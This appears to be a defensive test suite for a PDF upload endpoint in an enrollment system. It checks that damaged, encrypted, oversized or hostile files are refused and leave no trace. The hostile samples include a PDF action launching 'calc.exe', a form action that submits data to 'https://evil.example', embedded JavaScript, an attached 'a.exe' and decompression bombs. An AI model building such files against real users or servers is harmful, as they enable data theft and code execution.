import { readdir } from 'node:fs/promises';
import type { Server } from 'node:http';
import { type AddressInfo, createConnection } from 'node:net';
import { tmpdir } from 'node:os';
import type { User } from '../../backend/src/platform/people/user.table.ts';
import { Env } from '../../backend/src/platform/config/env.ts';
import { SPOOLED_PREFIX } from '../../backend/src/platform/documents/uploads/spooled-file.ts';
import { drawing } from '../support/hostile-pdf-files.ts';
import { FORM_BROKEN } from '../../backend/src/platform/documents/uploads/form-parts.ts';
import { StoredDocument } from '../../backend/src/platform/documents/stored-document.table.ts';
import { EnrollmentDocument } from '../../backend/src/enrollment/parts/documents/enrollment-document.table.ts';
import type { Quote } from '../../backend/src/quoting/quotes/quote.table.ts';
import * as rule from '../../shared/src/enrollment/upload-rules.ts';
import { insertApplication } from '../support/application-builders.ts';
import { type TestApp, startApp } from '../support/app.ts';
import { insertQuote } from '../support/group-builders.ts';
import * as pdf from '../support/pdf-files.ts';
import { insertAgentUser } from '../support/people.ts';

const SCRIPT = { S: 'JavaScript', JS: 'app.alert(1)' };
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]);

/** Each reason in words, and nothing left of the file. */
describe('a file that is no supporting document', () => {
  let app: TestApp;
  let agent: User;
  let quote: Quote;
  let folder: string;
  beforeAll(async () => {
    app = await startApp();
    agent = await insertAgentUser(app);
    quote = await insertQuote(app, agent, { status: 'Enrolling' });
    await insertApplication(app, agent, quote);
    folder = app.get(Env).documentsUrl.replace('folder:', '');
  });
  afterAll(() => app.close());

  const path = () => `/api/enrollment/UploadDocument/${quote.id}/1`;
  const upload = async (body: Buffer, filename = 'scan.pdf') =>
    (await app.as(agent)).post(path()).attach('file', body, { filename, contentType: 'application/pdf' });
  const left = async () => ({
    files: (await readdir(folder, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile()).length,
    spooled: (await readdir(tmpdir())).filter((name) => name.startsWith(SPOOLED_PREFIX)).length,
    documents: await app.database.manager.count(StoredDocument),
    rows: await app.database.manager.count(EnrollmentDocument),
  });

  it.each<[string, number, string, () => Buffer | Promise<Buffer>]>([
    ['that is empty', 400, rule.EMPTY_PDF, () => Buffer.alloc(0)],
    ['that is a picture with another name', 415, rule.MUST_BE_PDF, () => PNG],
    ['that begins a byte later', 415, rule.MUST_BE_PDF, async () => Buffer.concat([PNG, await pdf.buildPdf()])],
    ['that is an archive as well', 415, rule.MUST_BE_PDF, async () => pdf.withArchive(await pdf.buildPdf())],
    ['of a signature alone', 400, rule.PDF_DAMAGED, () => Buffer.from('%PDF-1.7\n')],
    ['that was cut off', 400, rule.PDF_DAMAGED, async () => (await pdf.buildPdf()).subarray(0, -40)],
    ['without a beginning of its own', 400, rule.PDF_DAMAGED, () => Buffer.from('%PDF-1.7\nstartxref\n0\n%%EOF\n')],
    ['with an object that is torn', 400, rule.PDF_DAMAGED, () => pdf.tornPdf()],
    [
      'with a password',
      400,
      rule.PDF_ENCRYPTED,
      () => pdf.buildPdf((made) => made.encrypt({ userPassword: 'x', ownerPassword: 'y' })),
    ],
    [
      'with a script',
      400,
      rule.PDF_HAS_SCRIPTS,
      () => pdf.buildPdf((made) => made.addJavaScript('hello', 'app.alert(1)')),
    ],
    ['that runs a script, packed away', 400, rule.PDF_HAS_SCRIPTS, () => pdf.pdfWithAction(SCRIPT)],
    ['that runs a script, in the open', 400, rule.PDF_HAS_SCRIPTS, () => pdf.pdfWithAction(SCRIPT, false)],
    ['that starts a program', 400, rule.PDF_HAS_LAUNCH, () => pdf.pdfWithAction({ S: 'Launch', F: 'calc.exe' })],
    [
      'that sends data away',
      400,
      rule.PDF_HAS_LAUNCH,
      () => pdf.pdfWithAction({ S: 'SubmitForm', F: 'https://evil.example' }),
    ],
    ['with a file in it', 400, rule.PDF_HAS_FILES, () => pdf.buildPdf((made) => made.attach(PNG, 'a.exe'))],
    ['whose form has a script', 400, rule.PDF_HAS_SCRIPTS, () => pdf.pdfWithFormScript()],
    ['without pages', 400, rule.PDF_HAS_NO_PAGES, () => pdf.emptyTreePdf()],
    ['of one page too many', 413, rule.PDF_TOO_MANY_PAGES, () => pdf.buildPdf(undefined, rule.MAX_UPLOAD_PAGES + 1)],
    ['of ten thousand pages', 413, rule.PDF_TOO_MANY_PAGES, () => pdf.buildPdf(undefined, 10_000)],
    ['whose pages lead in a circle', 413, rule.PDF_TOO_MANY_PAGES, () => pdf.endlessPdf()],
    ['that unpacks to a gigabyte', 413, rule.PDF_TOO_COMPLEX, () => pdf.bombPdf(1024)],
    ['whose page unpacks to 300 MB', 413, rule.PDF_TOO_COMPLEX, () => drawing(300 * 1024 * 1024)],
    ['of one byte too many', 413, rule.PDF_TOO_LARGE, () => pdf.pdfOfSize(rule.MAX_UPLOAD_BYTES + 1)],
    ['of 40 MB', 413, rule.PDF_TOO_LARGE, () => Buffer.alloc(40 * 1024 * 1024, '%PDF-')],
  ])('%s is refused with %i: %s', async (_what, status, message, make) => {
    const before = await left();
    const answer = await upload(await make());
    expect([answer.status, answer.body.Message, answer.body.Fields?.file]).toEqual([status, message, [message]]);
    expect(await left()).toEqual(before);
  });

  it.each([
    ['without a form', 415, (caller: Awaited<ReturnType<TestApp['as']>>) => caller.post(path()).send({})],
    [
      'with a form without a file',
      400,
      (caller: Awaited<ReturnType<TestApp['as']>>) => caller.post(path()).field('a', 'b'),
    ],
  ])('is refused %s', async (_what, status, send) => {
    const answer = await send(await app.as(agent));
    expect([answer.status, answer.body.Message]).toEqual([status, rule.MUST_BE_PDF]);
  });

  it('leaves nothing when it is cut short, or when the sender goes away in the middle', async () => {
    const before = await left();
    const { port } = await listening();
    const part = '--XX\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.7 and no more';
    const caller = await app.as(agent);
    const headers = [
      `POST ${path()} HTTP/1.1`,
      'Host: localhost',
      'Connection: close',
      `Cookie: ${caller.cookies()}`,
      `X-PQ-XSRF-TOKEN: ${caller.csrfToken()}`,
      'Content-Type: multipart/form-data; boundary=XX',
    ];
    const send = (length: number, goesAway: boolean) =>
      new Promise<string>((resolve) => {
        let answer = '';
        const socket = createConnection(port, '127.0.0.1', () =>
          socket.write(
            [...headers, `Content-Length: ${length}`, '', part].join('\r\n'),
            () => goesAway && socket.destroy(),
          ),
        );
        socket.on('data', (piece) => (answer += String(piece)));
        socket.once('close', () => resolve(answer));
      });
    expect(await send(part.length, false)).toContain(FORM_BROKEN);
    expect(await send(1_000_000, true)).toBe('');
    expect((await upload(PNG)).status).toBe(415);
    expect(await left()).toEqual(before);
  });

  async function listening(): Promise<AddressInfo> {
    const { server } = app.server.getHttpAdapter().getInstance() as unknown as { server: Server };
    if (!server.listening) {
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    }
    return server.address() as AddressInfo;
  }
});
